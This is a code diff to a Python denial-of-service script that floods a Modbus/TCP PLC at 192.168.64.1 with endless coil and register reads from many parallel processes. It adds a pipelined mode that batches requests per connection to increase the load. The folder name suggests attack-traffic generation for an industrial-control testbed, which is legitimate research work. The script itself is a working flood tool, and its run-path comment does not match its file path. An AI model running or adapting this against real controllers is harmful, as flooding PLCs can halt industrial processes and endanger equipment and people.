@@ -1,24 +1,42 @@
 # scripts/attack_injection/dos_flood.py
+#
+# FLOOD_WINDOW > 1 pipelines that many requests per connection
+# (src/modbus/pipeline.py), so each worker is no longer bounded by the
+# PLC round trip; fewer processes then generate the same load
+# (run it as python -m src.attacks.dos_flood).
 
+import os
 import time
 import multiprocessing
 from pymodbus.client import ModbusTcpClient
 
+FLOOD_WINDOW = int(os.getenv("FLOOD_WINDOW", 0))
+FLOOD_WORKERS = int(os.getenv("FLOOD_WORKERS", 10))
+
 def flood_worker(worker_id):
-    client = ModbusTcpClient('192.168.64.1', port=502)
+    if FLOOD_WINDOW > 1:
+        from src.modbus.pipeline import PipelinedClient
+        client = PipelinedClient('192.168.64.1', port=502, window=FLOOD_WINDOW)
+        batch = [("read_coils", {"address": 1, "count": 10, "slave": 1}),
+                 ("read_holding_registers", {"address": 0, "count": 5, "slave": 1})] * FLOOD_WINDOW
+    else:
+        client = ModbusTcpClient('192.168.64.1', port=502)
     client.connect()
     print(f"Worker {worker_id} started flooding...")
     try:
         while True:
-            client.read_coils(1, 10, slave=1)
-            client.read_holding_registers(0, 5, slave=1)
+            if FLOOD_WINDOW > 1:
+                client.call_many(batch)
+            else:
+                client.read_coils(1, 10, slave=1)
+                client.read_holding_registers(0, 5, slave=1)
     except Exception as e:
         print(f"Worker {worker_id} error: {e}")
     finally:
         client.close()
 
 if __name__ == "__main__":
-    N = 10
+    N = FLOOD_WORKERS
     procs = []
     for i in range(N):
         p = multiprocessing.Process(target=flood_worker, args=(i+1,))